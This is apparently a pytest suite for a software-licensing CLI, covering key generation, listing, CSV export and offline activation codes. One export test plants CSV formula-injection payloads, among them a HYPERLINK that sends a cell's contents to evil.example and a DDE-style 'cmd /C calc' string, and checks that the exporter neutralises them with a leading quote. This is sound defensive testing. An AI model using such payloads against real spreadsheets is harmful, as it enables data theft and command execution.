"""Publisher commands against the real server: keys generate / list / export, offline codes."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from pathlib import Path
from typing import Any

import pytest

from exisone._cli._csv import csv_cell

from .conftest import CORPORATE_SEATS, Cli, Server, new_hardware_id

GENERATED_HEADER = ["key", "email", "product", "expiration", "isCorporate", "maxSeats"]
KEY = re.compile(r"^[0-9A-HJKMNP-TV-Z]{4}(-[0-9A-HJKMNP-TV-Z]{4}){3}$")


def unique_email() -> str:
    return f"cli-{uuid.uuid4().hex[:12]}@example.com"


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def bulk_info(server: Server, keys: list[str]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    with server.publisher() as http:
        for start in range(0, len(keys), 100):
            reply = http.post(
                "/api/license/bulk-info", json={"activationKeys": keys[start : start + 100]}
            )
            assert reply.status_code == 200, reply.text
            found.extend(reply.json()["licenses"])
    return found


def test_generate_120_keys_to_csv(cli: Cli, server: Server, tmp_path: Path) -> None:
    email = unique_email()
    target = tmp_path / "keys.csv"
    result = cli(
        "keys",
        "generate",
        "--product",
        server.product,
        "--count",
        "120",
        "--email",
        email,
        "--csv",
        str(target),
    )
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip() == f"120 key(s) written to {target}"
    with target.open(newline="", encoding="utf-8") as handle:
        assert next(csv.reader(handle)) == GENERATED_HEADER
    rows = read_csv(target)
    keys = [row["key"] for row in rows]
    assert len(set(keys)) == 120
    assert all(KEY.match(key) for key in keys)
    assert {(row["email"], row["product"], row["isCorporate"]) for row in rows} == {
        (email, server.product, "false")
    }
    assert {row["expiration"] for row in rows} == {"2049-12-31T23:59:59Z"}  # Demo Pro: perpetual

    infos = bulk_info(server, keys)
    assert [info["activationKey"] for info in infos] == keys
    assert all(info["found"] and info["status"] == "active" for info in infos)
    assert {info["email"] for info in infos} == {email}
    for key in (keys[0], keys[-1]):  # and they work: activate, then validate
        hwid = new_hardware_id()
        cli.json("activate", key, "--email", email, "--product", server.product, "--hwid", hwid)
        assert cli.json("validate", key, "--product", server.product, "--hwid", hwid)["isValid"]


def test_generate_json_with_a_corporate_plan(cli: Cli, server: Server) -> None:
    email = unique_email()
    rows = cli.json(
        "keys",
        "generate",
        "--product",
        server.product,
        "--count",
        "2",
        "--email",
        email,
        "--plan",
        str(server.corporate_plan_id),
    )
    assert len(rows) == 2
    for row in rows:
        assert KEY.match(row["key"])
        assert row["email"] == email
        assert row["isCorporate"] is True
        assert row["maxSeats"] == CORPORATE_SEATS


def test_generate_with_days_and_csv_on_stdout(cli: Cli, server: Server) -> None:
    email = unique_email()
    result = cli(
        "keys",
        "generate",
        "--product",
        server.product,
        "--email",
        email,
        "--days",
        "30",
        "--csv",
        "-",
    )
    assert result.exit_code == 0, result.stderr
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["email"] == email
    assert row["expiration"][:4].isdigit()
    assert row["expiration"] != "2049-12-31T23:59:59Z"


def test_generate_usage_errors(cli: Cli, server: Server) -> None:
    both = cli(
        "keys", "generate", "--product", "P", "--email", "a@x.org", "--plan", "1", "--days", "3"
    )
    assert both.exit_code == 2
    assert "give --plan or --days, not both" in both.stderr
    clash = cli("keys", "generate", "--product", "P", "--email", "a@x.org", "--csv", "-", "--json")
    assert clash.exit_code == 2
    zero = cli("keys", "generate", "--product", "P", "--email", "a@x.org", "--count", "0")
    assert zero.exit_code == 2


def test_generate_for_an_unknown_product_fails_cleanly(cli: Cli, tmp_path: Path) -> None:
    target = tmp_path / "none.csv"
    result = cli(
        "keys",
        "generate",
        "--product",
        "NoSuchProduct",
        "--email",
        "a@x.org",
        "--count",
        "3",
        "--csv",
        str(target),
    )
    assert result.exit_code == 1
    assert result.stderr.startswith("error: ")
    assert "(404 product_not_found)" in result.stderr
    assert "Traceback" not in result.stderr
    assert read_csv(target) == []  # the header only


def test_list_filters_and_pages(cli: Cli, server: Server) -> None:
    email = unique_email()
    made = cli.json(
        "keys", "generate", "--product", server.product, "--count", "3", "--email", email
    )
    keys = [row["key"] for row in made]
    page = cli.json("keys", "list", "--email", email, "--page-size", "2")
    assert page["totalCount"] == 3
    assert page["totalPages"] == 2
    assert page["pageSize"] == 2
    second = cli.json("keys", "list", "--email", email, "--page-size", "2", "--page", "2")
    listed = [item["activationKey"] for item in page["items"] + second["items"]]
    assert sorted(listed) == sorted(keys)
    assert cli.json("keys", "list", "--email", email, "--status", "revoked")["totalCount"] == 0
    assert cli.json("keys", "list", "--search", keys[0])["items"][0]["activationKey"] == keys[0]

    shown = cli("keys", "list", "--email", email)
    assert shown.exit_code == 0, shown.stderr
    for key in keys:
        assert key in shown.stdout  # whole, never cut
    assert "page 1 of 1, 3 license(s)" in shown.stdout


def test_export_round_trip(cli: Cli, server: Server, tmp_path: Path) -> None:
    email = unique_email()
    generated = tmp_path / "generated.csv"
    exported = tmp_path / "exported.csv"
    assert (
        cli(
            "keys",
            "generate",
            "--product",
            server.product,
            "--count",
            "105",
            "--email",
            email,
            "--csv",
            str(generated),
        ).exit_code
        == 0
    )
    summary = cli.json("keys", "export", "--email", email, "--csv", str(exported))
    assert summary == {"exported": 105, "csv": str(exported)}  # two pages of the API
    made = {row["key"]: row for row in read_csv(generated)}
    rows = read_csv(exported)
    assert {row["activationKey"] for row in rows} == set(made)
    for row in rows:
        source = made[row["activationKey"]]
        assert (row["email"], row["productName"], row["status"]) == (
            email,
            server.product,
            "active",
        )
        assert row["expirationDate"] == source["expiration"]
        assert row["isCorporate"] == source["isCorporate"]

    everything = cli("keys", "export", "--csv", "-")
    assert everything.exit_code == 0
    assert set(made) <= {
        row["activationKey"] for row in csv.DictReader(io.StringIO(everything.stdout))
    }


def test_export_writes_cells_that_could_start_a_formula_behind_a_quote(
    cli: Cli, server: Server, tmp_path: Path
) -> None:
    """Hardware IDs, e-mails, notes, company names and versions are chosen by end users and
    buyers: a cell that a spreadsheet would run as a formula gets a leading quote."""
    email = unique_email()
    hostile = {
        "note": '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "corporateName": "@SUM(1+1)*cmd|' /C calc'!A0",
        "version": "-2+3",
        "email": "+" + email,
    }
    key = server.new_key(email=email)
    with server.publisher() as http:
        changed = http.patch(f"/api/license/{key}", json=hostile)
        assert changed.status_code == 200, changed.text
        bound = http.post(
            "/api/license/activate",
            json={"activationKey": key, "hardwareId": "=1+2", "productName": server.product},
        )
        assert bound.status_code == 200, bound.text

    exported = tmp_path / "hostile.csv"
    assert cli("keys", "export", "--search", email, "--csv", str(exported)).exit_code == 0
    [row] = read_csv(exported)
    assert row["activationKey"] == key
    assert row["note"] == "'" + hostile["note"]
    assert row["corporateName"] == "'" + hostile["corporateName"]
    assert row["version"] == "'-2+3"
    assert row["email"] == "'+" + email
    assert row["hardwareId"] == "'=1+2"
    assert (row["isCorporate"], row["currentSeats"]) == ("false", "1")  # ours: as they were


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_and_plain_text_is_not(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("a" + start) == "a" + start
    assert csv_cell(-3) == -3 and csv_cell(None) == "" and csv_cell(True) == "true"


def test_offline_issue_then_verify(cli: Cli, server: Server, tmp_path: Path) -> None:
    key = server.new_key()
    hwid = new_hardware_id()
    out = tmp_path / "code.txt"
    issued = cli.json("offline", "issue", key, hwid, "--out", str(out))
    code = issued["offlineCode"]
    assert issued["activationKey"] == key
    assert issued["hardwareId"] == hwid
    assert out.read_text().strip() == code
    plain = cli("offline", "issue", key, hwid)  # the same device again: the code, no new seat
    assert plain.exit_code == 0
    assert len(plain.stdout.strip()) > 100

    public_key = ["--public-key", str(server.public_key_path)]
    verified = cli.json(
        "offline", "verify", code, "--hwid", hwid.lower(), *public_key, "--product", server.product
    )
    assert verified["isValid"] is True
    assert verified["productName"] == server.product
    assert verified["features"] == server.demo["features"]
    assert verified["expirationDate"] == "2049-12-31T23:59:59Z"

    from_stdin = cli("offline", "verify", "-", "--hwid", hwid, *public_key, input=code + "\n")
    assert from_stdin.exit_code == 0, from_stdin.stderr
    assert "Offline code valid" in from_stdin.stdout

    other_machine = cli("offline", "verify", code, "--hwid", "OTHER", *public_key, "--json")
    assert other_machine.exit_code == 3
    assert '"hardwareMismatch": true' in other_machine.stdout

    tampered = code[:-3] + ("Y" if code[-3] != "Y" else "Z") + code[-2:]
    bad = cli("offline", "verify", tampered, "--hwid", hwid, *public_key)
    assert bad.exit_code == 3
    assert "Offline code not valid" in bad.stdout
    assert "nvalid" in bad.stdout  # "Invalid or tampered ..." (or a cut-off message)

    wrong_product = cli("offline", "verify", code, "--hwid", hwid, *public_key, "--product", "X")
    assert wrong_product.exit_code == 3

    # a file of every public key, the Ed25519 lease key too (what lease verify needs) works
    every = tmp_path / "every.pem"
    every.write_text(server.demo["leasePublicKeyPem"] + server.public_key_path.read_text())
    both = cli.json("offline", "verify", code, "--hwid", hwid, "--public-key", str(every))
    assert both["isValid"] is True
    lease_only = tmp_path / "lease.pem"
    lease_only.write_text(server.demo["leasePublicKeyPem"])
    refused = cli("offline", "verify", code, "--hwid", hwid, "--public-key", str(lease_only))
    assert refused.exit_code != 0 and "no RSA public key" in refused.stderr


def test_offline_verify_needs_a_readable_public_key(cli: Cli, tmp_path: Path) -> None:
    missing = cli("offline", "verify", "CODE", "--hwid", "H")
    assert missing.exit_code == 2
    assert "missing --public-key (or set EXISONE_PUBLIC_KEY_FILE" in missing.stderr
    gone = cli("offline", "verify", "CODE", "--hwid", "H", "--public-key", str(tmp_path / "x.pem"))
    assert gone.exit_code == 1
    assert gone.stderr.startswith("error: cannot read the public key file")
    not_pem = tmp_path / "not.pem"
    not_pem.write_text("hello")
    bad = cli("offline", "verify", "CODE", "--hwid", "H", "--public-key", str(not_pem))
    assert bad.exit_code == 1
    assert bad.stderr.startswith("error: configuration: offline_public_key is not a PEM")


def test_offline_issue_for_an_unknown_key(cli: Cli) -> None:
    result = cli("offline", "issue", "AAAA-BBBB-CCCC-DDDD", "HW", "--json")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert '"status": 404' in result.stderr


def test_progress_bar_on_a_terminal_only(cli: Cli, server: Server, tmp_path: Path) -> None:
    args = ["keys", "generate", "--product", server.product, "--email", unique_email()]
    terminal: dict[str, str | None] = {"TTY_COMPATIBLE": "1", "TERM": "xterm"}  # rich: a TTY
    shown = cli(*args, "--count", "12", "--csv", str(tmp_path / "a.csv"), env=terminal)
    assert shown.exit_code == 0, shown.stderr
    assert "Generating keys" in shown.stderr
    assert "12/12" in shown.stderr
    quiet = cli(*args, "--count", "12", "--csv", str(tmp_path / "b.csv"), "--json", env=terminal)
    assert quiet.exit_code == 0
    assert quiet.stderr == ""
    assert len(json.loads(quiet.stdout)) == 12
    not_a_tty = cli(*args, "--count", "12", "--csv", str(tmp_path / "c.csv"))
    assert not_a_tty.stderr == ""
